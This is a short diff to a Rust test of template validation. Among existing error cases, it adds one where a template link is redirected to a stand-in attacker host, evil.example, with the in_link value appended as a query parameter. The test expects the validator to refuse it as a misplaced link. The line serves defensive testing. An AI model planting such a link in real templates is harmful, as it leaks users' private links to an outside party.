@@ -104,6 +104,7 @@ async fn sr_35_broken_words_are_refused_with_the_line(#[values(Sqlite, Postgres)
         (json!({"text": text.replace("la zuppa", "{% include \"event/it.txt\" %}")}), "/text", "broken_template", "line 3: "),
         (json!({"text": text.replace("{{ in_link }}", "https://example.org")}), "/text", "missing_variable", "in_link"),
         (json!({"text": text.replace("la zuppa", "[zuppa](qui)\n")}), "/text", "broken_template", "line 3: "),
+        (json!({"text": text.replace("({{ in_link", "(https://evil.example/?t={{ in_link")}), "/text", "misplaced_link", "line 5: in_link"),
         (json!({"subject": "{{ event.titolo }}"}), "/subject", "unknown_variable", "event.titolo"),
         (json!({"subject": "due\nrighe"}), "/subject", "control_character", ""),
         (json!({"subject": "x".repeat(201)}), "/subject", "too_long", "200"),
